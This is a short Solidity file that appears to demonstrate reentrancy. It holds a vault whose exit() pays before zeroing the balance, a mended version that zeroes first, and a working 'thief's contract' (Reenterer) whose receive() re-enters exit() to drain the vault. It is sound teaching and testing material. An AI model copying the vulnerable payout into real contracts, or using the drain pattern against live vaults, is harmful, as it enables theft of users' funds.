// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title ReentrantExit
/// @notice Pays what an owner has. Broken: it pays before it writes down that it has paid.
contract ReentrantExit {
    mapping(address owner => uint256) public balanceOf;

    /// @notice Lock ether for an owner.
    function deposit(address owner) external payable {
        balanceOf[owner] += msg.value;
    }

    /// @notice Pay all that the sender has.
    function exit() external virtual {
        uint256 amount = balanceOf[msg.sender];
        (bool paid,) = msg.sender.call{value: amount}("");
        require(paid);
        balanceOf[msg.sender] = 0;
    }
}

/// @title ReentrantExitMended
/// @notice Writes down first.
contract ReentrantExitMended is ReentrantExit {
    /// @inheritdoc ReentrantExit
    function exit() external override {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        (bool paid,) = msg.sender.call{value: amount}("");
        require(paid);
    }
}

/// @title Reenterer
/// @notice A thief's contract: when it is paid, it asks again, as long as there is enough left.
contract Reenterer {
    ReentrantExit public immutable vault;

    constructor(ReentrantExit vault_) {
        vault = vault_;
    }

    /// @notice Take everything, and send it to the caller.
    function strike() external {
        vault.exit();
        (bool paid,) = msg.sender.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        if (address(vault).balance >= msg.value && msg.value > 0) vault.exit();
    }
}
